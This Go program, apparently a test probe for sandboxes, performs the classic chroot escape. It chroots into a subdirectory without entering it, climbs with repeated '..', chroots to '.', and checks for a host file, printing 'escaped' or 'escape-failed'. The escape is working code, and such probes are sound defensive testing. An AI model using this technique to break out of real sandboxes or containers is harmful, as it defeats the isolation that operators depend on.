// Command escape tries the classic chroot escape from inside a root: chroot
// into a subdirectory without entering it, climb with "..", chroot "." and
// look for a file of the host. It prints "escaped" or "escape-failed".
package main

import (
	"fmt"
	"os"
	"syscall"
)

func main() {
	os.Mkdir("jail", 0o755)
	if err := syscall.Chroot("jail"); err != nil {
		fmt.Println("chroot:", err)
		os.Exit(2)
	}
	for i := 0; i < 64; i++ {
		syscall.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		fmt.Println("chroot .:", err)
		os.Exit(2)
	}
	if _, err := os.Stat(os.Args[1]); err == nil {
		fmt.Println("escaped")
		return
	}
	fmt.Println("escape-failed")
}
